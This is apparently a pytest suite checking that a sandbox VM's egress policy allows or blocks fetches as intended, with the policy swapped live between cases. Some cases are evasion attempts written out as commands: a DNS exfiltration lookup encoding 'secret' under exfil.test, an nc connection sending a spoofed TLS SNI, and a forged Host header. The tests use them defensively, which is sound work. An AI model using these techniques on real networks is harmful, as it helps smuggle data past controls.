"""Egress policy on TCP through the gateway: every case of the original suite, on one VM
whose policy is replaced live between cases (which is itself under test).

Assertions are on what really happened: the guest's fetch fails or returns the exact bytes,
and the host's servers count the connections they saw (none for a denied flow).
"""

from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator
from dataclasses import dataclass

import pytest

import capsa
from capsa import MatchCriteria, NetworkPolicy, PolicyAction
from tests.vm.netkit import (
    GUEST_FETCH,
    GUEST_PY,
    DnsServer,
    WebSite,
    client_hello,
    guest_address,
    random_body,
    tls_context,
)

pytestmark = pytest.mark.vm

NAMES = {
    "allowed.test": "203.0.113.7",
    "other.test": "203.0.113.8",
    "api.allowed.test": "203.0.113.9",
}


@dataclass
class Lab:
    sandbox: capsa.Sandbox
    agent: capsa.AgentClient
    sites: dict[str, WebSite]  # by guest-visible address
    dns: DnsServer

    async def fetch(self, url: str, *, header: str = "") -> tuple[bool, str, str]:
        r = await self.agent.exec(
            f"rm -f /tmp/f; {GUEST_PY} /tmp/fetch.py {url} {header} && sha256sum /tmp/f",
            timeout=60,
        )
        digest = (r.stdout.split() or [b""])[0].decode()
        return r.exit_code == 0, digest, r.stderr.decode(errors="replace")

    def site(self, url: str) -> WebSite:
        host = url.split("/")[2]
        return self.sites[NAMES.get(host, host)]

    async def expect(self, url: str, allowed: bool, *, header: str = "") -> None:
        scheme = url.split(":")[0]
        site = self.site(url)
        before = site.connections[scheme]
        ok, digest, err = await self.fetch(url, header=header)
        if allowed:
            assert ok and digest == site.sha256, f"{url} should have been fetched: {err}"
            assert site.connections[scheme] == before + 1
        else:
            assert not ok, f"{url} should have been blocked"
            assert site.connections[scheme] == before, f"{url}: the host saw a connection"

    async def policy(self, policy: NetworkPolicy) -> None:
        await self.sandbox.set_network_policy(policy)


@pytest.fixture
async def lab() -> AsyncIterator[Lab]:
    loop = asyncio.get_running_loop()
    dns_t, dns = await loop.create_datagram_endpoint(
        lambda: DnsServer(NAMES), local_addr=("127.0.0.1", 0)
    )
    tls, _ = tls_context()
    sites: dict[str, WebSite] = {}
    mode = capsa.NetworkMode.user_nat().dns_upstream(
        "127.0.0.1", dns_t.get_extra_info("sockname")[1]
    )
    try:
        for guest_ip in NAMES.values():
            host_ip = "127.0.0." + guest_ip.rsplit(".", 1)[1]
            sites[guest_ip] = WebSite(host_ip, random_body())
            await sites[guest_ip].start(tls)
            mode.host_alias(guest_ip, host_ip)
        mode.policy(NetworkPolicy.deny_all().allow_dns().allow_domain("allowed.test"))
        async with await capsa.sandbox().network(mode.build()).build() as sb:
            agent = await sb.agent()
            await guest_address(agent)
            await agent.write_file("/tmp/fetch.py", GUEST_FETCH.encode())
            yield Lab(sb, agent, sites, dns)
    finally:
        dns_t.close()
        for site in sites.values():
            site.close()


async def test_policy_cases_with_live_changes(lab: Lab, caplog: pytest.LogCaptureFixture) -> None:
    # allow_domain, before the guest resolved anything: the bare address is not the domain's.
    await lab.expect("http://203.0.113.7/", allowed=False)
    await lab.expect("http://allowed.test/", allowed=True)
    await lab.expect("https://allowed.test/", allowed=True)
    await lab.expect("http://other.test/", allowed=False)
    # Hard-coded address of a pinned domain: the Host header does not name the domain.
    await lab.expect("http://203.0.113.7/", allowed=False)
    # Right address, wrong name: HTTP Host and TLS SNI are checked on domain-admitted flows.
    await lab.expect("http://allowed.test/", allowed=False, header="other.test")
    before = lab.sites["203.0.113.7"].connections["https"]
    await lab.agent.write_file("/tmp/hello", client_hello("other.test"))
    r = await lab.agent.exec("nc -w 5 203.0.113.7 443 < /tmp/hello | wc -c", timeout=30)
    assert r.stdout.strip() == b"0"
    assert lab.sites["203.0.113.7"].connections["https"] == before
    # DNS exfiltration: names the policy denies never reach the upstream resolver.
    await lab.agent.exec("nslookup c2VjcmV0.exfil.test", timeout=30)
    assert not any("exfil" in name for name in lab.dns.asked)

    await lab.policy(NetworkPolicy.deny_all().allow_dns())
    await lab.expect("http://allowed.test/", allowed=False)
    await lab.expect("https://other.test/", allowed=False)
    r = await lab.agent.exec("nslookup other.test", timeout=30)
    assert b"203.0.113.8" in r.stdout  # DNS itself is still allowed

    await lab.policy(NetworkPolicy.deny_all().allow_dns().allow_https())
    await lab.expect("https://other.test/", allowed=True)
    await lab.expect("http://other.test/", allowed=False)

    await lab.policy(NetworkPolicy.deny_all().allow_dns().allow_ip("203.0.113.8"))
    await lab.expect("http://other.test/", allowed=True)
    await lab.expect("http://203.0.113.8/", allowed=True)
    await lab.expect("http://allowed.test/", allowed=False)

    await lab.policy(NetworkPolicy.deny_all().allow_dns().allow_domain("*.allowed.test"))
    await lab.expect("http://api.allowed.test/", allowed=True)
    await lab.expect("https://api.allowed.test/", allowed=True)
    await lab.expect("http://allowed.test/", allowed=False)  # the apex is not a subdomain

    domain_on_443 = MatchCriteria.all(MatchCriteria.domain("allowed.test"), MatchCriteria.port(443))
    await lab.policy(NetworkPolicy.deny_all().allow_dns().rule(PolicyAction.ALLOW, domain_on_443))
    await lab.expect("https://allowed.test/", allowed=True)
    await lab.expect("http://allowed.test/", allowed=False)

    caplog.set_level(logging.INFO, logger="capsa.net.policy")
    await lab.policy(
        NetworkPolicy.deny_all().allow_dns().log_domain("allowed.test").allow_domain("allowed.test")
    )
    await lab.expect("http://allowed.test/", allowed=True)
    logged = [r for r in caplog.records if r.getMessage() == "flow matched log rule"]
    assert logged and "allowed.test" in getattr(logged[-1], "capsa_domains", [])
    assert getattr(logged[-1], "capsa_dst", None) == "203.0.113.7"

    await lab.policy(
        NetworkPolicy.deny_all().allow_dns().allow_ip("203.0.113.8").allow_domain("allowed.test")
    )
    # Once domain rules exist under deny-all, only the names they allow resolve at all.
    r = await lab.agent.exec("nslookup other.test", timeout=30)
    assert b"203.0.113.8" not in r.stdout
    await lab.expect("http://203.0.113.8/", allowed=True)
    await lab.expect("https://allowed.test/", allowed=True)
    await lab.expect("http://api.allowed.test/", allowed=False)

    await lab.policy(NetworkPolicy.allow_all().deny_port(80))
    await lab.expect("http://other.test/", allowed=False)
    await lab.expect("https://other.test/", allowed=True)


async def test_a_connection_outlives_a_policy_change(lab: Lab) -> None:
    """Admitted connections are judged once: tightening the policy does not cut them."""
    site = lab.sites["203.0.113.7"]
    await lab.policy(NetworkPolicy.allow_all())
    # The request head trickles out over 3 s, so the connection is open across the change.
    slow = "(printf 'GET / HTTP/1.0\\r\\n'; sleep 3; printf 'Host: x\\r\\n\\r\\n') "
    tail = f"| nc 203.0.113.7 80 | tail -c {len(site.body)} | sha256sum"
    fetch = asyncio.create_task(lab.agent.exec(slow + tail, timeout=60).run())
    await asyncio.sleep(1.5)
    await lab.policy(NetworkPolicy.deny_all())
    result = await fetch
    assert result.exit_code == 0
    assert result.stdout.split()[0].decode() == site.sha256
    await lab.expect("http://203.0.113.7/", allowed=False)
